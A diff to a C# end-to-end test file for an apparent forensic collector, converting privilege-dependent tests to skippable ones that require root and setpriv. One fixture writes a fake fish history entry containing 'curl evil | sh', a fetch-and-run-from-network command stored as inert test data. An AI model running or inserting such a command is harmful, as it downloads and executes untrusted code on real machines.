@@ -27,14 +27,10 @@ public sealed class OneBadPathEndToEndTests(ITestOutputHelper output) : IDisposa
             timeout: TimeSpan.FromMinutes(3));
     }
 
-    private bool CanDropPrivileges()
+    private static void RequireDropPrivileges()
     {
-        if (!Environment.IsPrivilegedProcess || Run.Tool("setpriv", ["--reuid=nobody", "--regid=nogroup", "--clear-groups", "true"]).ExitCode != 0)
-        {
-            output.WriteLine("Not run: needs root and setpriv to run the collector as 'nobody' (CI runs as root).");
-            return false;
-        }
-        return true;
+        Requires.Root("the collector is run as 'nobody' through setpriv");
+        Requires.Program("setpriv", "util-linux");
     }
 
     private void LoopAndLongName()
@@ -65,13 +61,11 @@ public sealed class OneBadPathEndToEndTests(ITestOutputHelper output) : IDisposa
         manifest.Skipped.Should().Contain(s => s.Path == LongName && s.Failed && s.Reason.Contains("name too long"));
     }
 
-    [Fact]
+    [SkippableFact]
+    [Trait("Category", "Root")]
     public void Run_as_a_normal_user_an_unreadable_parent_of_a_single_path_and_of_a_glob_are_records_and_the_run_seals_with_exit_3()
     {
-        if (!CanDropPrivileges())
-        {
-            return;
-        }
+        RequireDropPrivileges();
         // Given /root (0700) holding a fish history, /var/log/private (0700), and a log nobody owns
         _root.Write("root/.local/share/fish/fish_history", "- cmd: curl evil | sh\n");
         _root.Write("var/log/private/secret.log", "hidden\n");
@@ -101,13 +95,11 @@ public sealed class OneBadPathEndToEndTests(ITestOutputHelper output) : IDisposa
         HostileTree.Atime(ok).Should().StartWith("2020-05-05 05:05:05.123456789");
     }
 
-    [Fact]
+    [SkippableFact]
+    [Trait("Category", "Root")]
     public void The_linux_base_profile_run_by_a_normal_user_on_this_machine_seals_and_exits_3_listing_what_it_could_not_read()
     {
-        if (!CanDropPrivileges())
-        {
-            return;
-        }
+        RequireDropPrivileges();
         Run.Tool("chmod", ["0777", _target.Path]).ExitCode.Should().Be(0);
 
         var run = AsNobody("--profile", "linux-base", "--target", _target.Path);
